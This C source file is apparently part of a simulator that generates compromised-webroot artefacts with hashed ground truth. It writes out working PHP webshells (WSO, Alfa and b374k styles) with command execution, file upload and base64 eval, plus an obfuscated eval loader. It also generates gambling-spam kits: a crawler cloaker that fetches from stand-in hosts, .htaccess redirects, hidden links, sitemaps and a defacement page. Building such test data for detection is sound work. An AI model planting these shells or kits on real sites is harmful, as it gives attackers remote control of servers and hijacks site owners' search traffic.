/*
 * webroot_plant.c — what the file attacks plant, planned before the run with
 * the attack's stream (rng_state): a webshell in the upload folder (the
 * same bytes on every site of the attack), the gambling kits (cloaker,
 * hidden links, .htaccess redirect, sitemap), a defacement page; each
 * change queued at its site's time for webroot.c to write. The SHA-256 of
 * a created file (truth.json) is OpenSSL's.
 */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <openssl/evp.h>

#include "ronda/buf.h"
#include "sim.h"
#include "vocab.h"
#include "webroot_int.h"

/* The SHA-256 of p[0..n) as 64 lower-case hex digits. 0, or -1 (libcrypto failed). */
static int
sha256_hex(const void *p, size_t n, char out[65])
{
	unsigned char md[EVP_MAX_MD_SIZE];
	unsigned int len = 0;

	out[0] = '\0';
	if (EVP_Digest(p, n, md, &len, EVP_sha256(), NULL) != 1 || len != 32)
		return -1;
	for (unsigned int i = 0; i < len; i++)
		snprintf(out + 2 * i, 3, "%02x", md[i]);
	return 0;
}

/* ---- what the kits write --------------------------------------------------------- */

static const char *const judol_hosts[] = { "slot88gacor.example", "gacormaxwin.example",
	"situs-toto88.example", "rtp-live-gacor.example", NULL };
static const char *const judol_extra_hosts[] = { "gacor777.example",
	"dana-slot88.example", "maxwin138.example", "togel4d-resmi.example",
	"mahjong-scatter.example", "zeus-olympus1000.example", "bandar-toto.example",
	"sbobet88-link.example", NULL };
static const char *const judol_anchors[] = { "slot gacor", "slot gacor hari ini",
	"situs slot online", "slot88", "togel online", "link alternatif slot",
	"rtp live slot gacor", "slot maxwin", "bandar togel terpercaya", "slot thailand",
	"situs judi slot", "daftar slot gacor", "slot deposit dana", "mahjong ways 2",
	"toto 4d", "scatter hitam", NULL };

/* The host of a URL ("https://x.example/daftar" -> "x.example"). */
static void
url_host(const char *url, char *out, size_t n)
{
	const char *p = strstr(url, "://");
	size_t len;

	p = p != NULL ? p + 3 : url;
	len = strcspn(p, "/:?#");
	snprintf(out, n, "%.*s", (int)(len < n ? len : n - 1), p);
}

/* "Title Case" of a slug's first words, into out. */
static void
slug_title(char *out, size_t n, const char *slug, int words)
{
	size_t o = 0;
	int w = 0, up = 1;

	for (const char *p = slug; *p != '\0' && o + 1 < n; p++) {
		if (*p == '-') {
			if (++w == words)
				break;
			out[o++] = ' ';
			up = 1;
			continue;
		}
		out[o++] = up && *p >= 'a' && *p <= 'z' ? (char)(*p - 32) : *p;
		up = 0;
	}
	out[o] = '\0';
}

/* A site's id as a slug: "bontangkota.go.id" -> "bontangkota-go-id". */
static void
slug_of(const char *id, char *out, size_t n)
{
	size_t o = 0;

	for (; *id != '\0' && o + 1 < n; id++)
		out[o++] = *id == '.' ? '-' : *id;
	out[o] = '\0';
}

static char *
buf_take(struct ronda_buf *b, size_t *len)
{
	char *d = malloc(b->len + 1);

	if (d != NULL) {
		memcpy(d, b->data ? b->data : "", b->len);
		d[b->len] = '\0';
	}
	*len = b->len;
	return d;
}

/*
 * Add a change of ws: path, how, and a copy of b's content (hashed when the
 * file is created). NULL when ws has no room left, out of memory, or when
 * libcrypto fails.
 */
static struct wr_change *
change(struct wr_site *ws, int how, const char *path, const char *anchor, struct ronda_buf *b)
{
	struct wr_change *c;

	if (ws->nch >= WR_MAX_CHANGE)
		return NULL;
	c = &ws->ch[ws->nch++];
	snprintf(c->path, sizeof(c->path), "%s", path);
	c->how = how;
	c->anchor = anchor;
	c->data = buf_take(b, &c->len);
	if (c->data == NULL || (how == CH_CREATE && sha256_hex(c->data, c->len, c->sha256) == -1))
		return NULL;
	return c;
}

/* The gambling page a cloak serves crawlers (and the local file it may include). */
static void
judol_page(struct ronda_buf *b, const struct sim_site *s, const char *host,
    const char *landing)
{
	static const char *const para[] = {
		"Situs slot gacor hari ini dengan RTP live tertinggi dan peluang maxwin setiap "
		"hari. Daftar sekarang, deposit dana mulai 10 ribu, bonus new member 100%.",
		"Bandar togel online terpercaya: pasaran Hongkong, Singapore dan Sydney, diskon "
		"terbesar, hadiah 4D hingga 10 juta. Link alternatif selalu aktif.",
		"Bocoran pola slot gacor malam ini: mahjong ways 2 scatter hitam, gates of olympus,"
		" starlight princess. Main sekarang dan rasakan jackpot beruntun.",
		"Slot thailand super gacor, server luar negeri, anti rungkad. Withdraw cepat tanpa "
		"potongan, layanan 24 jam melalui live chat.",
		NULL };
	size_t want = 100000 + (fnv(s->id, 7) % 30000);

	P("<!DOCTYPE html>\n<html amp lang=\"id\">\n<head>\n<meta charset=\"utf-8\">\n<title>"
	    "SLOT GACOR HARI INI &#9889; Situs Slot Online Maxwin %d - %s</title>\n<meta name="
	    "\"description\" content=\"%s: situs slot gacor hari ini, link alternatif resmi, RTP "
	    "live slot maxwin.\">\n<link rel=\"canonical\" href=\"https://%s/\">\n<link rel="
	    "\"amphtml\" href=\"https://%s/amp/\">\n</head>\n<body>\n<h1>Slot Gacor Hari Ini - "
	    "Situs Slot Online Terpercaya</h1>\n", start_year, s->id, s->id, s->id, host);
	for (unsigned i = 0; b->len < want; i++) {
		P("<h2>%s</h2>\n<p>%s</p>\n<p><a href=\"%s\">DAFTAR SLOT GACOR</a> &middot; <a "
		    "href=\"https://%s/login\">LOGIN</a> &middot; <a href=\"https://%s/rtp\">RTP "
		    "LIVE</a></p>\n", judol_anchors[i % vcount(judol_anchors)],
		    para[i % vcount(para)], landing, host, host);
	}
	P("</body>\n</html>\n");
}

/*
 * PHP lines a judi kit prepends to index.php: bots get the page (the local
 * copy at page, or fetched), referred visitors go to the landing page.
 */
static void
cloaker(struct ronda_buf *b, const char *page, const char *host, const char *landing,
    const char *slug)
{
	P("<?php\nerror_reporting(0);\n$bot = '/googlebot|bingbot|google-inspectiontool|"
	    "adsbot-google|mediapartners-google|slurp|yandex/i';\n$ua = isset($_SERVER["
	    "'HTTP_USER_AGENT']) ? $_SERVER['HTTP_USER_AGENT'] : '';\n$ref = isset($_SERVER["
	    "'HTTP_REFERER']) ? $_SERVER['HTTP_REFERER'] : '';\nif (preg_match($bot, $ua)) {\n");
	if (page != NULL)
		P("    include __DIR__ . '/%s';\n", page);
	else
		P("    $page = @file_get_contents('https://%s/amp/%s.html');\n    if ($page === false"
		    " && function_exists('curl_init')) {\n        $ch = curl_init('https://%s/amp/%s."
		    "html');\n        curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\n        "
		    "curl_setopt($ch, CURLOPT_SSL_VERIFYPEER, 0);\n        $page = curl_exec($ch);\n"
		    "        curl_close($ch);\n    }\n    echo $page;\n", host, slug, host, slug);
	P("    exit;\n}\nif (stripos($ref, 'google.co.id') !== false) {\n    $geo = @json_decode"
	    "(@file_get_contents('http://ip-api.com/json/' . $_SERVER['REMOTE_ADDR'] . "
	    "'?fields=countryCode'), true);\n    if (isset($geo['countryCode']) && "
	    "$geo['countryCode'] === 'ID') {\n        header('Location: %s', true, 302);\n"
	    "        exit;\n    }\n}\n?>\n", landing);
}

/* The hidden block of links the footer gets: 10 to 30, the shared host first. */
static void
hidden_links(struct ronda_buf *b, const struct wr_site *ws)
{
	unsigned n = 10 + rndn(21);

	P("<div style=\"display:none\">\n");
	for (unsigned i = 0; i < n; i++) {
		/* Most to the campaign's host; some to the site's own extras. */
		const char *h = ws->domains[i < 2 || ws->ndomains == 1 || rndn(3) ? 0 :
		    1 + rndn((unsigned)ws->ndomains - 1)];
		const char *a = PICK(judol_anchors);

		if (rndn(3) == 0)
			P("<a href=\"https://%s/%s/\" title=\"%s\">%s</a>\n", h,
			    PICK(vocab_judol_page), a, a);
		else
			P("<a href=\"https://%s/\" title=\"%s\">%s</a>\n", h, a, a);
	}
	P("</div>\n");
}

static void
htaccess_redirect(struct ronda_buf *b, const char *host, const char *slug)
{
	P("<IfModule mod_rewrite.c>\nRewriteEngine On\nRewriteCond %%{HTTP_USER_AGENT} "
	    "(googlebot|bingbot|Google-InspectionTool|AdsBot-Google) [NC]\nRewriteRule ^(.*)$ "
	    "https://%s/amp/%s/$1 [R=302,L]\nRewriteCond %%{HTTP_REFERER} google\\.co\\.id [NC]"
	    "\nRewriteRule ^$ https://%s/ [R=302,L]\n</IfModule>\n\n", host, slug, host);
}

static void
sitemap_judi(struct ronda_buf *b, const struct sim_site *s, const char *host)
{
	char ts[32];
	unsigned n = 60 + rndn(90);

	wr_iso_time(ts, sim_start_ms);
	P("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<urlset xmlns=\"http://www.sitemaps.org/"
	    "schemas/sitemap/0.9\">\n");
	for (unsigned i = 0; i < n; i++) {
		const char *pg = PICK(vocab_judol_page);

		if (i % 10 == 9)
			P("  <url><loc>https://%s/%s/</loc><lastmod>%.10s</lastmod><priority>0.9"
			    "</priority></url>\n", host, pg, ts);
		else
			P("  <url><loc>https://%s/?id=%s-%u</loc><lastmod>%.10s</lastmod><priority>"
			    "1.0</priority></url>\n", s->id, pg, 100 + rndn(900), ts);
	}
	P("</urlset>\n");
}

/* A shell's body: a WSO, Alfa or b374k-like file manager, console and eval. */
static void
shell_body(struct ronda_buf *b, const char *family, const char *pass_md5)
{
	if (strcmp(family, "alfa") == 0)
		P("<?php\n/*\n   ~ ALFA TEaM Shell - v4.1-Tesla ~\n   Coded By : Sole Sad & Invisible"
		    "\n   Telegram : @solevisible\n*/\n$GLOBALS['__ALFA_VER__'] = '4.1';\n$GLOBALS["
		    "'__ALFA_SHELL_CODE'] = 'PD9waHAgZWNobyAiQWxmYSI7ID8+';\n$GLOBALS['DB_NAME'] = "
		    "array('user' => 'alfa', 'pass' => '%s', 'safemode' => '1');\n", pass_md5);
	else if (strcmp(family, "b374k") == 0)
		P("<?php\n/*\n\tb374k shell 3.2.3\n\tJayalah Indonesiaku\n\t(c)2014\n*/\n$GLOBALS["
		    "'pass'] = \"%s\";\n$GLOBALS['module_to_load'] = array(\"explorer\", \"terminal\","
		    " \"eval\", \"convert\", \"database\", \"info\", \"mail\", \"network\", "
		    "\"processes\");\n", pass_md5);
	else
		P("<?php\n/* WSO 2.5 (Web Shell by oRb) */\n$auth_pass = \"%s\";\n$color = \"#df5\";"
		    "\n$default_action = 'FilesMan';\n$default_use_ajax = true;\n$default_charset = "
		    "'Windows-1251';\n@define('WSO_VERSION', '2.5');\n", pass_md5);
	P("@ini_set('error_log', NULL);\n@ini_set('log_errors', 0);\n@ini_set("
	    "'max_execution_time', 0);\n@set_time_limit(0);\n@error_reporting(0);\n\n"
	    "function shLogin() {\n    die(\"<pre align=center><form method=post>Password: "
	    "<input type=password name=pass><input type=submit value='>>'></form></pre>\");\n}"
	    "\nif (!isset($_COOKIE[md5($_SERVER['HTTP_HOST'])]))\n    if (isset($_POST['pass']) "
	    "&& md5($_POST['pass']) == '%s')\n        setcookie(md5($_SERVER['HTTP_HOST']), "
	    "'%s');\n    else\n        shLogin();\n\n", pass_md5, pass_md5);
	P("function shEx($in) {\n    $out = '';\n    if (function_exists('exec')) {\n        "
	    "@exec($in, $out);\n        $out = @join(\"\\n\", $out);\n    } elseif (function_"
	    "exists('passthru')) {\n        ob_start();\n        @passthru($in);\n        $out = "
	    "ob_get_clean();\n    } elseif (function_exists('system')) {\n        ob_start();\n"
	    "        @system($in);\n        $out = ob_get_clean();\n    } elseif (function_exists"
	    "('shell_exec')) {\n        $out = shell_exec($in);\n    } elseif (is_resource($f = "
	    "@popen($in, \"r\"))) {\n        $out = \"\";\n        while (!@feof($f))\n"
	    "            $out .= fread($f, 1024);\n        pclose($f);\n    }\n    return $out;\n}"
	    "\n\nfunction shPerms($p) {\n    $i = @fileperms($p);\n    $s = ($i & 0x4000) ? 'd' :"
	    " '-';\n    $s .= ($i & 0x0100) ? 'r' : '-';\n    $s .= ($i & 0x0080) ? 'w' : '-';\n"
	    "    $s .= ($i & 0x0040) ? 'x' : '-';\n    return $s;\n}\n\n");
	P("function actionFilesMan() {\n    $dir = isset($_POST['c']) ? $_POST['c'] : getcwd();"
	    "\n    if (!empty($_FILES['f']['name']))\n        @move_uploaded_file($_FILES['f']"
	    "['tmp_name'], $dir . '/' . $_FILES['f']['name']);\n    if (isset($_POST['p1']) && "
	    "$_POST['p1'] == 'delete')\n        @unlink($dir . '/' . $_POST['p2']);\n    if "
	    "(isset($_POST['p1']) && $_POST['p1'] == 'edit')\n        @file_put_contents($dir . "
	    "'/' . $_POST['p2'], $_POST['p3']);\n    echo \"<table class=main>\";\n    foreach "
	    "(@scandir($dir) as $f) {\n        echo '<tr><td><a href=# onclick=\"g(\\'FilesMan"
	    "\\',\\'' . htmlspecialchars($dir . '/' . $f) . '\\')\">' . htmlspecialchars($f) . "
	    "'</a></td><td>' . @filesize($dir . '/' . $f) . '</td><td>' . shPerms($dir . '/' . "
	    "$f) . '</td></tr>';\n    }\n    echo \"</table>\";\n}\n\nfunction actionConsole() {\n"
	    "    if (!empty($_POST['p1']))\n        echo '<pre class=ml1>' . htmlspecialchars("
	    "shEx($_POST['p1'] . ' 2>&1')) . '</pre>';\n}\n\nfunction actionPhp() {\n    "
	    "ob_start();\n    eval(base64_decode($_POST['p1']));\n    echo htmlspecialchars("
	    "ob_get_clean());\n}\n\nfunction actionSecInfo() {\n    echo '<pre>' . php_uname() . "
	    "\"\\n\" . 'Disabled: ' . @ini_get('disable_functions') . \"\\n\" . 'Safe mode: ' . "
	    "(@ini_get('safe_mode') ? 'ON' : 'OFF') . '</pre>';\n}\n\nif (empty($_POST['a']))\n"
	    "    $_POST['a'] = 'FilesMan';\nif (!empty($_POST['a']) && function_exists('action' . "
	    "$_POST['a']))\n    call_user_func('action' . $_POST['a']);\nexit;\n");
}

/* base64 of p[0..n), 76 columns. */
static void
b64(struct ronda_buf *b, const unsigned char *p, size_t n)
{
	static const char t[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

	for (size_t i = 0; i < n; i += 3) {
		uint32_t v = (uint32_t)p[i] << 16 | (i + 1 < n ? (uint32_t)p[i + 1] << 8 : 0) |
		    (i + 2 < n ? p[i + 2] : 0);

		ronda_buf_putc(b, t[v >> 18 & 63]);
		ronda_buf_putc(b, t[v >> 12 & 63]);
		ronda_buf_putc(b, i + 1 < n ? t[v >> 6 & 63] : '=');
		ronda_buf_putc(b, i + 2 < n ? t[v & 63] : '=');
	}
}

/* The shell as planted: plain, or its body base64'd behind split function names. */
static void
shell(struct ronda_buf *b, const struct wr_plan *p)
{
	char md5[33];
	struct ronda_buf body;

	for (int i = 0; i < 32; i++)
		md5[i] = "0123456789abcdef"[rndn(16)];
	md5[32] = '\0';
	if (!p->obfuscated) {
		shell_body(b, p->family, md5);
		return;
	}
	ronda_buf_init(&body, WR_CONTENT_MAX);
	shell_body(&body, p->family, md5);
	/* eval("?>" . base64_decode(...)): the body runs as a file would. */
	P("<?php\n/* %08x */\n$O0O0O0_ = \"ba\".\"se\".\"64\".\"_d\".\"ec\".\"ode\";\n$O00O0O_ = "
	    "\"str\".\"_r\".\"ot\".\"13\";\n$OO0O00_ = '", (unsigned)rnd());
	b64(b, (const unsigned char *)body.data, body.len);
	P("';\n@eval(\"?>\" . $O0O0O0_($OO0O00_));\n");
	ronda_buf_release(&body);
}

static void
deface_page(struct ronda_buf *b, const struct sim_site *s, const char *team)
{
	char t[64];

	slug_title(t, sizeof(t), team, 4);
	P("<!DOCTYPE html>\n<html>\n<head>\n<meta charset=\"utf-8\">\n<title>Hacked By %s</title>"
	    "\n<meta name=\"description\" content=\"Hacked By %s\">\n</head>\n<body bgcolor="
	    "\"black\" text=\"white\">\n<center>\n<br><br>\n<h1><font color=\"red\">Hacked By %s"
	    "</font></h1>\n<h3>%s</h3>\n<p>Security is just an illusion. Patch your system, "
	    "admin.</p>\n<p><font color=\"lime\">We are %s - Indonesian Cyber Army</font></p>\n"
	    "<marquee behavior=\"scroll\" direction=\"left\">Greetz: all member %s - "
	    "Garuda Sec - Surabaya Blackhat - Bali Cyber</marquee>\n</center>\n</body>\n</html>\n",
	    t, t, t, s->id, t, t);
}

/* ---- planning ---------------------------------------------------------------------- */

/* The pages a cloaked site's visitors and crawlers ask for. */
static void
cloak_urls(struct wr_site *ws, const struct sim_site *s)
{
	int want = 3 + (int)rndn(3);

	ws->nurls = 0;
	snprintf(ws->urls[ws->nurls++], sizeof(ws->urls[0]), "/");
	if (s->kind == KIND_MAIL) {
		snprintf(ws->urls[ws->nurls++], sizeof(ws->urls[0]), "/webmail/");
		return;
	}
	while (ws->nurls < want) {
		const char *u;
		int dup = 0;

		switch (s->kind) {
		case KIND_COMPLAINT: u = PICK(vocab_pengaduan); break;
		case KIND_EKINERJA: u = PICK(vocab_ekinerja); break;
		default: {
			int news = (int)rndn(2);

			u = news ? PICK(vocab_berita) : PICK(vocab_pengumuman);
			if (wr_judol_word(u))
				continue;
			snprintf(ws->urls[ws->nurls++], sizeof(ws->urls[0]), "/%s/%s/",
			    news ? "berita" : "pengumuman", u);
			continue;
		}
		}
		for (int i = 0; i < ws->nurls; i++)
			dup |= strcmp(ws->urls[i], u) == 0;
		if (!dup)
			snprintf(ws->urls[ws->nurls++], sizeof(ws->urls[0]), "%s", u);
	}
}

/* Where a kit hides a local copy of the page (a folder nobody looks in). */
static void
local_page(const struct tree *t, const char *slug, char *out, size_t n)
{
	if (t->kind == TREE_WP)
		snprintf(out, n, "wp-content/languages/amp-%s.html", slug);
	else if (t->kind == TREE_CI)
		snprintf(out, n, "assets/img/amp-%s.html", slug);
	else
		snprintf(out, n, "skins/elastic/images/amp-%s.html", slug);
}

static int
plan_gambling(const struct wr_plan *p, struct wr_site *ws, const struct tree *t,
    struct ronda_buf *b)
{
	const struct sim_site *s = site_at(ws->si);
	char slug[128], page[WR_PATH];

	slug_of(s->id, slug, sizeof(slug));
	snprintf(ws->domains[ws->ndomains++], sizeof(ws->domains[0]), "%s", p->host);
	/* Up to two hosts of the site's own besides the campaign's. */
	for (unsigned i = 0, m = rndn(3); i < m; i++) {
		const char *h = PICK(judol_extra_hosts);
		int dup = strcmp(h, p->host) == 0;

		for (int j = 0; j < ws->ndomains; j++)
			dup |= strcmp(ws->domains[j], h) == 0;
		if (!dup && ws->ndomains < WR_MAX_DOMAINS)
			snprintf(ws->domains[ws->ndomains++], sizeof(ws->domains[0]), "%s", h);
	}
	ronda_buf_reset(b);
	judol_page(b, s, p->host, p->landing);
	ws->bot_bytes = (unsigned)b->len;
	if (p->inject & 1u << INJ_CLOAKER) {
		ws->local = (int)rndn(2);
		ws->cloak = CLOAK_PAGE;
		if (ws->local) {
			local_page(t, slug, page, sizeof(page));
			if (change(ws, CH_CREATE, page, NULL, b) == NULL)
				return -1;
		}
		ronda_buf_reset(b);
		cloaker(b, ws->local ? page : NULL, p->host, p->landing, slug);
		if (change(ws, CH_PREPEND, "index.php", NULL, b) == NULL)
			return -1;
	}
	if (p->inject & 1u << INJ_LINKS) {
		ronda_buf_reset(b);
		hidden_links(b, ws);
		if (change(ws, CH_INSERT, t->footer, "</body>", b) == NULL)
			return -1;
	}
	if (p->inject & 1u << INJ_HTACCESS) {
		ronda_buf_reset(b);
		htaccess_redirect(b, p->host, slug);
		ws->cloak = CLOAK_REDIRECT;	/* the rewrite runs before any PHP */
		if (change(ws, CH_PREPEND, ".htaccess", NULL, b) == NULL)
			return -1;
	}
	if (p->inject & 1u << INJ_SITEMAP) {
		ronda_buf_reset(b);
		sitemap_judi(b, s, p->host);
		if (change(ws, CH_CREATE, "sitemap-judi.xml", NULL, b) == NULL)
			return -1;
		ronda_buf_reset(b);
		ronda_buf_printf(b, "Sitemap: https://%s/sitemap-judi.xml\n", s->id);
		if (change(ws, CH_APPEND, "robots.txt", NULL, b) == NULL)
			return -1;
	}
	if (ws->cloak != CLOAK_NONE)
		cloak_urls(ws, s);
	return 0;
}

int
webroot_plan(struct sim_attack *a, char *err, size_t errlen)
{
	struct wr_plan *p = calloc(1, sizeof(*p));
	struct ronda_buf b, sh;
	struct tree t;
	int rc = -1;

	ronda_buf_init(&b, WR_CONTENT_MAX);
	ronda_buf_init(&sh, WR_CONTENT_MAX);
	t.e = calloc(WR_MAX_ENTRIES, sizeof(*t.e));
	if (p == NULL || t.e == NULL || (p->site = calloc(a->n ? a->n : 1,
	    sizeof(*p->site))) == NULL)
		goto nomem;
	a->wr = p;
	if (a->kind == ATK_GAMBLING_INJECT) {
		if (a->domain != NULL) {
			snprintf(p->landing, sizeof(p->landing), "%s", a->domain);
			url_host(a->domain, p->host, sizeof(p->host));
		} else {
			snprintf(p->host, sizeof(p->host), "%s", PICK(judol_hosts));
			snprintf(p->landing, sizeof(p->landing), "https://%s/daftar", p->host);
		}
		for (size_t i = 0; i < a->inject.n; i++)
			for (int j = 0; injects[j] != NULL; j++)
				if (strcmp(a->inject.v[i], injects[j]) == 0)
					p->inject |= 1u << j;
		if (p->inject == 0)
			p->inject = 1u << INJ_CLOAKER | 1u << INJ_LINKS;
	} else if (a->kind == ATK_WEBSHELL_FILE) {
		static const char *const fams[] = { "wso", "alfa", "b374k", NULL };

		snprintf(p->family, sizeof(p->family), "%s", a->family ? a->family : PICK(fams));
		p->obfuscated = a->obfuscation == OBF_OBFUSCATED ||
		    (a->obfuscation == OBF_RANDOM && rndn(2));
		static const char *const names[] = { "wp-conflg.php", "about.php", "radio.php",
			"wp-blog-post.php", "xleet.php", "cache-img.php", "admin-ajax.php",
			"class-wp-widget-meta.php", NULL };

		if (a->shell != NULL)
			snprintf(p->shell, sizeof(p->shell), "%s", a->shell);
		else
			snprintf(p->shell, sizeof(p->shell), "%s", PICK(names));
		shell(&sh, p);
		if (sh.overflow)
			goto nomem;
		if (sha256_hex(sh.data, sh.len, p->sha256) == -1) {
			snprintf(err, errlen, "SHA-256 of the shell: libcrypto failed");
			goto done;
		}
	} else if (a->kind == ATK_DEFACE_FILE) {
		snprintf(p->team, sizeof(p->team), "%s", PICK(vocab_deface_teams));
	}
	for (size_t k = 0; k < a->n; k++) {
		struct wr_site *ws = &p->site[k];
		char path[WR_PATH * 2];

		ws->si = a->site[k];
		ws->at = a->from[k * a->nsess];
		ws->end = a->to[k * a->nsess + a->nsess - 1];
		wr_tree_build(ws->si, &t);
		switch (a->kind) {
		case ATK_WEBSHELL_FILE:
			snprintf(path, sizeof(path), "%s/%s", t.upload, p->shell);
			ronda_buf_reset(&b);
			ronda_buf_append(&b, sh.data, sh.len);
			if (change(ws, CH_CREATE, path, NULL, &b) == NULL)
				goto nomem;
			break;
		case ATK_GAMBLING_INJECT:
			if (plan_gambling(p, ws, &t, &b) == -1)
				goto nomem;
			break;
		case ATK_DEFACE_FILE:
			ronda_buf_reset(&b);
			deface_page(&b, site_at(ws->si), p->team);
			if (change(ws, CH_CREATE, "index.html", NULL, &b) == NULL)
				goto nomem;
			break;
		default:
			break;
		}
		for (int i = 0; i < ws->nch; i++)
			if (ws->ch[i].data == NULL)
				goto nomem;
		if (ws->at >= sim_end_ms)
			continue;
		if (wr_queue(a->kind == ATK_CMS_UPDATE ? OP_UPDATE : OP_PLANT, ws->at, ws->si,
		    ws) == -1)
			goto nomem;
	}
	rc = 0;
	goto done;
nomem:
	snprintf(err, errlen, "out of memory");
done:
	ronda_buf_release(&b);
	ronda_buf_release(&sh);
	free(t.e);
	return rc;
}

void
webroot_plan_free(struct sim_attack *a)
{
	struct wr_plan *p = a->wr;

	if (p == NULL)
		return;
	for (size_t k = 0; k < a->n && p->site != NULL; k++)
		for (int i = 0; i < p->site[k].nch; i++)
			free(p->site[k].ch[i].data);
	free(p->site);
	free(p);
	a->wr = NULL;
}
